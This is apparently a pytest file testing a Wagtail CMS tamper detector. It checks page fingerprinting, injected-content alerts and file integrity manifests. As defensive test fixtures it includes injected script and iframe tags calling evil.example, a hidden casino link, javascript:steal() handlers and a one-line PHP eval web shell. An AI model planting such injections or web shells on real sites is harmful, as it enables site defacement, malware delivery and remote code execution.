import logging

import pytest
from django.core import mail
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from wagtail.models import PageLogEntry

from cms.security import fingerprint as fingerprint_module
from cms.security.fingerprint import analyse_html, snapshot_page
from cms.security.models import PageFingerprint, TamperFinding
from site_pages.models import ArticlePage
from tests.factories import make_content

pytestmark = pytest.mark.django_db


def run_check(fake_site, capsys=None):
    """(failed, stdout) of one check_tamper run against the fake site."""
    try:
        call_command("check_tamper", base_url=fake_site.base_url, timeout=5)
    except CommandError as error:
        return True, str(error)
    return False, ""


@pytest.fixture
def manifest(integrity_files):
    call_command("integrity_manifest")
    return integrity_files


def test_publishing_fingerprints_the_page_and_its_ancestors(site_tree):
    article = site_tree["article"]
    own = PageFingerprint.objects.get(page=article)
    assert own.reason == PageFingerprint.Reason.PUBLISH
    assert own.revision_id == article.live_revision_id
    assert own.url.endswith("/xwdt/sy/chungeng/")
    assert len(own.content_sha256) == 64
    # The ancestors list the article now; their fingerprints were taken after it was published.
    for key in ("home", "news", "a"):
        ancestor = PageFingerprint.objects.get(page=site_tree[key])
        assert ancestor.content_sha256 == snapshot_page(site_tree[key])[1].content_sha256
    assert PageFingerprint.objects.get(page=site_tree["home"]).reason == PageFingerprint.Reason.ANCESTOR
    # The approved templates carry no frames, no inline scripts and no scripts but the project's own static
    # files; the footer links are the only outside links.
    scripts = [key for key in own.active_elements if key.startswith(("script", "inline-script", "iframe"))]
    assert all(key.startswith("script-src:/static/") for key in scripts), scripts


def test_fingerprints_wait_for_the_commit(site_tree, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        page = make_content(site_tree["b"], title="龙台镇动态", slug="longtai")
    assert not PageFingerprint.objects.filter(page=page).exists()
    for callback in callbacks:
        callback()
    assert PageFingerprint.objects.get(page=page).reason == PageFingerprint.Reason.PUBLISH


def test_a_rendering_failure_does_not_stop_publishing(site_tree, published, monkeypatch, caplog):
    def broken(page):
        raise RuntimeError("template exploded")

    monkeypatch.setattr(fingerprint_module, "render_page", broken)
    with caplog.at_level(logging.ERROR, logger="cms.security.fingerprint"):
        page = published(make_content, site_tree["b"], title="照常发布", slug="still-published")
    page.refresh_from_db()
    assert page.live
    assert not PageFingerprint.objects.filter(page=page).exists()
    assert "Could not fingerprint page" in caplog.text


def test_active_elements_cover_scripts_frames_plugins_and_outside_resources():
    html = """<html><head><script src="/static/app.js"></script><script>alert(1)</script>
    <link rel="stylesheet" href="https://cdn.evil.example/x.css"><meta http-equiv="refresh" content="0;url=http://x.example">
    </head><body><main><iframe src="http://frame.example/"></iframe><object data="/media/x.swf"></object>
    <embed src="http://plugin.example/a.swf"><img src="http://img.example/a.png"><img src="/media/ok.png">
    <a href="http://www.anyue.gov.cn/local/">own</a><a href="https://casino.example/">ad</a>
    <a href="javascript:steal()">x</a><div onclick="steal()">y</div></main></body></html>"""
    elements = analyse_html(html, "http://www.anyue.gov.cn/xwdt/", {"www.anyue.gov.cn"}).active_elements
    assert "script-src:/static/app.js" in elements
    assert any(e.startswith("inline-script:") for e in elements)
    assert "external:link:https://cdn.evil.example/x.css" in elements
    assert "meta-refresh:0;url=http://x.example" in elements
    assert "iframe:http://frame.example/" in elements
    assert "object:/media/x.swf" in elements
    assert "embed:http://plugin.example/a.swf" in elements
    assert "external:img:http://img.example/a.png" in elements
    assert "external-link:https://casino.example/" in elements
    assert any(e.startswith("javascript-url:a[href]") for e in elements)
    assert any(e.startswith("event-handler:div[onclick]") for e in elements)
    assert not any("ok.png" in e or "/local/" in e for e in elements)


def test_normalisation_ignores_formatting_and_per_request_values():
    first = '<html><body><main><p class="a  b">正文   内容</p><input name="csrfmiddlewaretoken" value="one"></main>'
    second = (
        '<html><body>\n<main>\n  <p  class="a b">正文 内容</p><input value="two" name="csrfmiddlewaretoken"></main>'
    )
    a = analyse_html(first, "http://h/", {"h"})
    b = analyse_html(second, "http://h/", {"h"})
    assert a.content_sha256 == b.content_sha256
    changed = analyse_html(first.replace("正文", "篡改"), "http://h/", {"h"})
    assert changed.content_sha256 != a.content_sha256
    assert changed.chrome_sha256 == a.chrome_sha256


def test_an_untouched_site_passes(site_tree, fake_site, manifest):
    fake_site.serve_current()
    failed, message = run_check(fake_site)
    assert not failed, message
    assert not TamperFinding.objects.exists()


def test_injected_script_iframe_and_outside_resources_are_reported_and_alerted(
    site_tree, fake_site, manifest, settings, capsys
):
    settings.ADMINS = [("值班员", "duty@example.invalid")]
    fake_site.serve_current()
    article = site_tree["article"]
    fake_site.replace(
        article,
        "春耕生产正当时。",
        '春耕生产正当时。<script src="http://evil.example/m.js"></script>'
        '<iframe src="http://evil.example/f" width="0" height="0"></iframe>'
        '<img src="http://evil.example/p.gif">',
    )
    fake_site.replace(
        site_tree["home"], "</body>", '<a href="https://casino.example/" style="display:none">棋牌</a></body>'
    )

    failed, message = run_check(fake_site)
    assert failed
    assert "发现" in message
    output = capsys.readouterr().out
    assert "【挂马或暗链】" in output
    assert "外部加载的脚本：http://evil.example/m.js" in output
    assert "内嵌框架（iframe）：http://evil.example/f" in output
    assert "外部资源：img:http://evil.example/p.gif" in output
    assert "指向外部网站的链接（疑似暗链）：https://casino.example/" in output
    assert "/xwdt/sy/chungeng/" in output

    injected = TamperFinding.objects.filter(kind=TamperFinding.Kind.INJECTED, resolved=False)
    assert injected.count() == 4
    assert TamperFinding.objects.filter(kind=TamperFinding.Kind.CONTENT, page=article).exists()
    assert len(mail.outbox) == 1
    assert mail.outbox[0].to == ["duty@example.invalid"]
    assert "http://evil.example/m.js" in mail.outbox[0].body

    # cron runs it again: same findings, no duplicates, no second alert, still a failure.
    count = TamperFinding.objects.count()
    failed, _message = run_check(fake_site)
    assert failed
    assert TamperFinding.objects.count() == count
    assert len(mail.outbox) == 1

    # Once the site is clean again the findings are closed.
    fake_site.serve_current()
    failed, message = run_check(fake_site)
    assert not failed, message
    assert not TamperFinding.objects.filter(resolved=False).exists()


def test_alerts_go_to_the_configured_addresses(site_tree, fake_site, manifest, settings):
    settings.SECURITY_ALERT_EMAILS = ["security@example.invalid"]
    fake_site.serve_current()
    fake_site.replace(site_tree["article"], "</main>", "<script>document.write('x')</script></main>")
    failed, _message = run_check(fake_site)
    assert failed
    assert mail.outbox[0].to == ["security@example.invalid"]
    assert "内嵌脚本" in mail.outbox[0].body


def test_publishing_another_page_is_not_an_alarm(site_tree, fake_site, manifest, published):
    # The home page and 新闻动态 list the latest items; a new item changes their HTML.
    published(make_content, site_tree["b"], title="龙台镇新闻", slug="longtai-news")
    fake_site.serve_current()
    failed, message = run_check(fake_site)
    assert not failed, message


def test_a_change_published_elsewhere_that_reaches_other_pages_is_followed(site_tree, fake_site, manifest, published):
    # Renaming a top-level column changes the navigation of every page, descendants included.
    news = site_tree["news"]
    news.title = "要闻动态"
    published(lambda: news.save_revision().publish())
    article_before = PageFingerprint.objects.get(page=site_tree["article"])
    fake_site.serve_current()
    failed, message = run_check(fake_site)
    assert not failed, message
    article_after = PageFingerprint.objects.get(page=site_tree["article"])
    assert article_after.reason == PageFingerprint.Reason.REFRESH
    assert article_after.chrome_sha256 != article_before.chrome_sha256


def test_a_database_change_without_publishing_is_reported(site_tree, fake_site, manifest):
    article = site_tree["article"]
    ArticlePage.objects.filter(pk=article.pk).update(title="已被篡改的标题")
    assert not PageLogEntry.objects.filter(timestamp__gt=PageFingerprint.objects.get(page=article).created_at).exists()
    fake_site.serve_current()
    failed, _message = run_check(fake_site)
    assert failed
    finding = TamperFinding.objects.get(page=article, kind=TamperFinding.Kind.CONTENT)
    assert "没有经过发布" in finding.detail


def test_a_page_the_site_no_longer_serves_is_reported(site_tree, fake_site, manifest):
    fake_site.serve_current()
    del fake_site.pages[site_tree["article"].get_url_parts()[2]]
    failed, _message = run_check(fake_site)
    assert failed
    assert TamperFinding.objects.get(kind=TamperFinding.Kind.UNREACHABLE).detail == "返回状态码 404"


def test_integrity_manifest_reports_changed_added_and_removed_files(site_tree, fake_site, manifest):
    fake_site.serve_current()
    (manifest / "site" / "page.html").write_text('<main><script src="//x.example/a.js"></script></main>')
    (manifest / "site" / "list.html").unlink()
    (manifest / "site" / "shell.html").write_text("<?php eval($_POST['x']); ?>")
    failed, _message = run_check(fake_site)
    assert failed
    kinds = dict(TamperFinding.objects.values_list("kind", "url"))
    assert kinds[TamperFinding.Kind.FILE_CHANGED].endswith("site/page.html")
    assert kinds[TamperFinding.Kind.FILE_REMOVED].endswith("site/list.html")
    assert kinds[TamperFinding.Kind.FILE_ADDED].endswith("site/shell.html")

    # After a reviewed deployment the manifest is written again and the findings close.
    call_command("integrity_manifest")
    failed, message = run_check(fake_site)
    assert not failed, message


def test_a_missing_manifest_is_itself_a_finding(site_tree, fake_site, integrity_files):
    fake_site.serve_current()
    failed, _message = run_check(fake_site)
    assert failed
    assert TamperFinding.objects.filter(kind=TamperFinding.Kind.MANIFEST_MISSING).exists()


def test_default_manifest_covers_the_projects_own_templates_and_static_files(settings, tmp_path):
    from cms.security import integrity

    roots = [root.relative_to(settings.BASE_DIR).as_posix() for root in integrity.default_roots()]
    assert "cms/templates" in roots
    assert "cms/static" in roots
    assert "site_pages/templates" in roots
    assert not any("site-packages" in root or root.startswith(".venv") for root in roots)
    path, manifest = integrity.write_manifest(tmp_path / "m.json")
    assert "cms/templates/base.html" in manifest["files"]
    assert integrity.compare_manifest(path).changed == []


def test_pages_without_a_fingerprint_are_reported_until_baselined(site_tree, fake_site, manifest):
    PageFingerprint.objects.filter(page=site_tree["article"]).delete()
    fake_site.serve_current()
    failed, _message = run_check(fake_site)
    assert failed
    assert TamperFinding.objects.filter(kind=TamperFinding.Kind.UNFINGERPRINTED).exists()
    call_command("fingerprint_pages")
    assert PageFingerprint.objects.get(page=site_tree["article"]).reason == PageFingerprint.Reason.BASELINE
    failed, message = run_check(fake_site)
    assert not failed, message


def test_findings_are_listed_in_the_admin_and_can_be_marked_resolved(admin_client):
    finding = TamperFinding.objects.create(url="http://x/", kind=TamperFinding.Kind.INJECTED, detail="内嵌脚本：abc")
    listing = admin_client.get(reverse("tamper_findings:index"))
    assert listing.status_code == 200
    assert "内嵌脚本：abc" in listing.content.decode()
    assert admin_client.get(reverse("tamper_findings:add")).url == reverse("wagtailadmin_home")
    response = admin_client.post(reverse("tamper_findings:edit", args=[finding.pk]), {"resolved": "on"})
    assert response.status_code == 302
    finding.refresh_from_db()
    assert finding.resolved


def test_publishing_an_unrelated_page_does_not_cover_up_a_database_change(site_tree, fake_site, manifest, published):
    article = site_tree["article"]
    ArticlePage.objects.filter(pk=article.pk).update(title="已被篡改的标题")
    published(make_content, site_tree["b"], title="龙台镇新闻", slug="longtai-news")
    fake_site.serve_current()
    failed, _message = run_check(fake_site)
    assert failed
    assert TamperFinding.objects.filter(page=article, kind=TamperFinding.Kind.CONTENT).exists()
